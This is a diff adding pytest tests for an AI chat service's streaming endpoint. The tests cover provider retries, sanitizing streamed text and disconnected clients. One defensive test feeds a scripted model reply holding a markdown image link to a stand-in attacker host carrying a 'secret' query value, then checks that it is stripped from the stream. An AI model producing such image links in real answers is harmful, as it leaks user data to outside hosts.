@@ -3,11 +3,14 @@
 from __future__ import annotations
 
 import json
+import threading
 from collections.abc import Callable
 from typing import Any
 
 import pytest
 
+from studio_ai import streaming
+from studio_ai.api import ModelRequest, ModelTurn, ProviderError
 from studio_ai.models import MessageRow, MessageSourceRow
 from studio_kernel.storage.sql import Statement
 from studio_kernel.testing.app import Client, StudioApp
@@ -186,6 +189,46 @@ def test_a_stream_says_when_another_provider_takes_over(make_assistant: MakeAssi
     assert named[-1][1]["fallback"] is True
     after = named[[name for name, _ in named].index("restart") + 1 : -1]
     assert "".join(data["text"] for _, data in after) == named[-1][1]["message"]
+
+
+def test_a_stream_says_when_the_provider_is_asked_again(make_assistant: MakeAssistant) -> None:
+    model = Scripted()
+    answer, failures = model.turn, [True]
+
+    def turn(request: ModelRequest) -> ModelTurn:
+        if failures:
+            failures.pop()
+            assert request.on_text is not None
+            request.on_text("It was ")
+            raise ProviderError("the provider's answer was cut off", again=True)
+        return answer(request)
+
+    model.turn = turn  # type: ignore[method-assign]
+    client = make_assistant(model, provider="scripted", tool_calls=0).client("admin")
+    named = events(client.post("/api/v1/ai/chat", json={"message": "X1.1?"}, headers=_STREAM).text)
+    place = [name for name, _ in named].index("restart")
+    assert named[place][1] == {"reason": "the provider's answer was cut off"}
+    assert [data["text"] for _, data in named[1:place]] == ["It was "]
+    assert "".join(data["text"] for _, data in named[place + 1 : -1]) == named[-1][1]["message"]
+    assert named[-1][1]["fallback"] is False
+
+
+def test_a_stream_is_as_harmless_as_the_whole_answer(make_assistant: MakeAssistant) -> None:
+    said = f"See ![x](https://evil.example/p.png?q=secret) <b>now</b> [{ACCESS.id}]"
+    client = make_assistant(Scripted(reply=lambda shown: said), provider="scripted", tool_calls=0).client("admin")
+    named = events(client.post("/api/v1/ai/chat", json={"message": "X1.1?"}, headers=_STREAM).text)
+    heard = "".join(data["text"] for name, data in named if name == "delta")
+    assert "evil" not in heard
+    assert "<b>" not in heard
+    assert ACCESS.id in heard
+
+
+def test_a_question_whose_asker_goes_away_at_once_is_answered_all_the_same() -> None:
+    answered = threading.Event()
+    stream = streaming.events({}, lambda sink: answered.set() or {}, lambda: None)
+    next(stream)
+    stream.close()  # type: ignore[attr-defined]
+    assert answered.wait(20)
 
 
 def test_refusals_come_before_a_stream_begins(client: Client) -> None:
